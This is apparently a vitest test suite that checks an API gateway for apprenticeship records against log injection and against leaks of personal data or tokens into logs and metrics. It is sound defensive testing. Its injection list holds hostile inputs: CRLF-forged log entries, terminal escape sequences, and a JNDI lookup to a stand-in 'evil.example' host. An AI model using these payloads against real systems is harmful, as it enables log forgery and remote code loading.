import { afterAll, beforeAll, describe, expect, test } from 'vitest'
import { makeKopf, makeNachweis } from '../fixtures.ts'
import { type ChildGateway, startChildGateway } from './child-gateway.ts'
import { multipart } from './multipart.ts'
import { expectAtWork } from './refused.ts'
import { sendRaw } from './send-raw.ts'
import type { HostileRequest } from './send-request.ts'

let gateway: ChildGateway
beforeAll(async () => {
  gateway = await startChildGateway({ LOG_LEVEL: 'debug', ADAPTERS: '@berichtsheft/adapter-ihk' })
})
afterAll(() => gateway?.close())

const forged = '{"level":50,"msg":"FORGED"}'
/** Texts that would end a line of the log, begin another one or reach the terminal that shows it. */
const injections: readonly (readonly [name: string, text: string])[] = [
  ['CR LF and a line', `x\r\n${forged}`],
  ['LF and a line', `x\n${forged}`],
  ['encoded CR LF', `x%0d%0a${forged}`],
  ['ANSI colours', '\u001b[31mred\u001b[0m'],
  ['a terminal title', '\u001b]0;title\u0007'],
  ['C1', '\u009b31m'],
  ['line separators', `x\u2028${forged}\u2029`],
  ['JSON that closes the entry', `"}\n${forged}`],
  ['quotes and backslashes', '\\", "msg":"FORGED", "x":"\\'],
  ['a format', '%s %d %j %o'],
  ['a look-up', ['$', '{jndi:ldap://evil.example/x}'].join('')],
]

/** Places that a caller writes to. */
const places: readonly (readonly [name: string, put: (text: string) => HostileRequest])[] = [
  ['the address', (text) => ({ path: `/v1/berichtshefte/${encodeURIComponent(text)}` })],
  ['an unknown address', (text) => ({ path: `/${encodeURIComponent(text)}` })],
  ['the query', (text) => ({ path: `/v1/berichtshefte?unternehmen=${encodeURIComponent(text)}` })],
  ['the name of a parameter', (text) => ({ path: `/v1/berichtshefte?${encodeURIComponent(text)}=1` })],
  ['the cursor', (text) => ({ path: `/v1/berichtshefte?cursor=${encodeURIComponent(text)}` })],
  ['a value of the body', (text) => ({ body: JSON.stringify(makeKopf({ fremdId: text })) })],
  ['a key of the body', (text) => ({ body: JSON.stringify({ [text]: 1 }) })],
  ['broken JSON', (text) => ({ body: `{"a":"${text}` })],
  [
    'a file name',
    (text) => ({
      path: '/v1/importe?adapter=ihk',
      ...multipart([{ name: 'd', filename: text.replaceAll('"', "'"), content: text }]),
    }),
  ],
  [
    'the name of a part',
    (text) => ({ path: '/v1/importe?adapter=ihk', ...multipart([{ name: text.replaceAll('"', "'"), content: text }]) }),
  ],
]

const headers = [
  'user-agent',
  'x-request-id',
  'traceparent',
  'idempotency-key',
  'if-match',
  'accept',
  'referer',
  'x-forwarded-for',
  'authorization',
  'content-type',
  'content-encoding',
]

/** Lines that are JSON, one entry each, whose bytes reach no terminal. */
const expectCleanLog = (): void => {
  for (const line of gateway.takeLog()) {
    const entry = JSON.parse(line) as { level: number; time: number; msg?: string }
    expect(entry.msg).not.toBe('FORGED')
    expect(typeof entry.time).toBe('number')
    // biome-ignore lint/suspicious/noControlCharactersInRegex: control characters are what is looked for
    expect(line).not.toMatch(/[\u0000-\u001f\u007f-\u009f]/)
    expect(entry.level, line).toBeLessThan(50)
  }
}

describe.each(places)('B14: %s forges no line of the log', (_place, put) => {
  test.each(injections)('B14: %s', async (_name, text) => {
    const answer = await gateway.send(put(text))
    expect(answer.status, answer.text).toBeLessThan(500)
    expect(JSON.stringify(answer.headers)).not.toContain('FORGED')
    expectCleanLog()
  })
})

test.each(headers)('B14: the header %s forges no line of the log and no header of the answer', async (name) => {
  for (const [, text] of injections) {
    const request = `POST /v1/berichtshefte HTTP/1.1\r\nHost: x\r\nConnection: close\r\nAuthorization: Bearer ${gateway.vendor.token}\r\nContent-Length: 2\r\n${name}: `
    const { answers } = await sendRaw(gateway.port, [request, Buffer.from(text), '\r\n\r\n{}'])
    expect(answers.length).toBeLessThanOrEqual(1)
    for (const { status, headers: sent } of answers) {
      expect(status).toBeGreaterThanOrEqual(400)
      expect(status).toBeLessThan(500)
      expect(JSON.stringify(sent)).not.toMatch(/FORGED|evil/)
    }
    expectCleanLog()
  }
  await expectAtWork(gateway)
})

describe('D04: nothing personal and nothing secret reaches the log', () => {
  const canary = 'Kanarienvogel'
  const person = { name: `${canary} Ehrlichmann` }
  const kopf = makeKopf({ azubi: person, unternehmen: { name: `${canary} GmbH` }, fremdId: `${canary}-1` })
  const nachweis = makeNachweis(0)
  const requests: readonly (readonly [name: string, request: () => HostileRequest])[] = [
    ['a book that is stored', () => ({ body: JSON.stringify(kopf) })],
    ['the same key again, which the database refuses', () => ({ body: JSON.stringify(kopf) })],
    [
      'a book without the documented form',
      () => ({ body: JSON.stringify({ ...kopf, azubi: { name: `${canary}\u202e` } }) }),
    ],
    ['broken JSON', () => ({ body: `{"azubi":"${canary}"` })],
    [
      'a delivery that breaks rules',
      () => ({
        path: '/v1/lieferungen',
        body: JSON.stringify({
          berichtsheft: kopf,
          ausbildungsnachweise: [
            {
              ...nachweis,
              inhalt: { ...nachweis.inhalt, azubi: canary, zeitraum: { von: '1999-01-01', bis: '1999-01-02' } },
            },
          ],
        }),
      }),
    ],
    [
      'XML',
      () => ({
        path: '/v1/lieferungen/strom',
        headers: { 'content-type': 'application/xml' },
        body: `<a>${canary}</a>`,
      }),
    ],
    [
      'an import',
      () => ({
        path: '/v1/importe?adapter=ihk',
        ...multipart([{ name: 'd', filename: `${canary}.json`, content: `{"x":"${canary}"}` }]),
      }),
    ],
    ['the address', () => ({ path: `/v1/berichtshefte/${canary}` })],
    ['the query', () => ({ path: `/v1/berichtshefte?unternehmen=${canary}&limit=0` })],
    [
      'a header',
      () => ({ headers: { 'user-agent': canary, 'idempotency-key': `${canary} x`, cookie: canary }, body: '{}' }),
    ],
    ['a wrong token', () => ({ token: `eyJhbGciOiJSUzI1NiJ9.${canary}.x` })],
    [
      'a token request',
      () => ({
        path: '/oidc/token',
        headers: { 'content-type': 'application/x-www-form-urlencoded' },
        body: `grant_type=client_credentials&client_id=${canary}&client_assertion=${canary}`,
      }),
    ],
  ]
  test.each(requests)('D04: %s', async (_name, request) => {
    const answer = await gateway.send(request())
    expect(answer.status, answer.text).toBeLessThan(500)
    const log = gateway.takeLog().join('\n')
    expect(log).not.toContain(canary)
    expect(log).not.toContain(gateway.vendor.token)
    expect(log).not.toContain(gateway.vendor.token.split('.')[2])
    const metrics = await gateway.send({ path: '/metrics', token: '' })
    expect(metrics.text).not.toContain(canary)
  })
})
